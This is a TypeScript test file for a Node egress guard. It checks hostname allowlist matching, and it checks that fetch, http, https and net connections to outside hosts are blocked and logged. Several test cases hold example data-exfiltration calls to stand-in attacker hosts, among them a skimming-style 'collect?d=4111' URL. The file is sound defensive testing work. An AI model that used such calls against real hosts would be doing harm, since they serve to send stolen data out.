import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type EgressAttempt, EgressBlockedError, type EgressGuard, hostMatches, installEgressGuard } from './egress-guard.ts';

let guard: EgressGuard;
const blocked: EgressAttempt[] = [];
let server: http.Server;
let port: number;

beforeAll(async () => {
  server = http.createServer((_req, res) => res.end('ok'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as net.AddressInfo).port;
  guard = installEgressGuard({ allowHosts: ['api.stripe.com', '*.smtp.example'], allowLoopback: true, onBlocked: (a) => blocked.push(a) });
});
afterAll(async () => {
  guard.uninstall();
  await new Promise((resolve) => server.close(resolve));
});

describe('egress guard', () => {
  it('matches exact hosts and wildcard suffixes only', () => {
    expect(hostMatches('API.Stripe.com.', ['api.stripe.com'])).toBe(true);
    expect(hostMatches('api.stripe.com.evil.example', ['api.stripe.com'])).toBe(false);
    expect(hostMatches('mx1.smtp.example', ['*.smtp.example'])).toBe(true);
    expect(hostMatches('smtp.example', ['*.smtp.example'])).toBe(false);
    expect(hostMatches('evilsmtp.example', ['*.smtp.example'])).toBe(false);
  });

  it('blocks fetch to a foreign host before any connection, and reports it', async () => {
    const before = blocked.length;
    await expect(fetch('https://skim.evil.example/collect?d=4111')).rejects.toBeInstanceOf(EgressBlockedError);
    expect(blocked.slice(before)).toMatchObject([{ host: 'skim.evil.example', port: 443, via: 'fetch' }]);
  });

  it('blocks http/https/net connections to foreign hosts with an error on the socket', async () => {
    const before = blocked.length;
    const viaHttps = await new Promise<Error>((resolve) => {
      https.get('https://exfil.evil.example/x', () => resolve(new Error('connected'))).on('error', resolve);
    });
    expect(viaHttps).toBeInstanceOf(EgressBlockedError);
    const viaIp = await new Promise<Error>((resolve) => {
      http.get({ host: '203.0.113.9', port: 80, path: '/' }, () => resolve(new Error('connected'))).on('error', resolve);
    });
    expect(viaIp).toBeInstanceOf(EgressBlockedError);
    const viaNet = await new Promise<Error>((resolve) => {
      net.connect(25, 'mail.evil.example').on('error', resolve).on('connect', () => resolve(new Error('connected')));
    });
    expect(viaNet).toBeInstanceOf(EgressBlockedError);
    expect(blocked.slice(before).map((b) => `${b.host}:${b.port}`)).toEqual(['exfil.evil.example:443', '203.0.113.9:80', 'mail.evil.example:25']);
  });

  it('lets loopback and allowed hosts through', async () => {
    const before = blocked.length;
    const res = await fetch(`http://127.0.0.1:${port}/`);
    expect(await res.text()).toBe('ok');
    const body = await new Promise<string>((resolve, reject) => {
      http.get(`http://localhost:${port}/`, (r) => {
        let text = '';
        r.on('data', (c) => (text += c));
        r.on('end', () => resolve(text));
      }).on('error', reject);
    });
    expect(body).toBe('ok');
    expect(guard.isAllowed('api.stripe.com')).toBe(true);
    expect(blocked.length).toBe(before);
  });
});
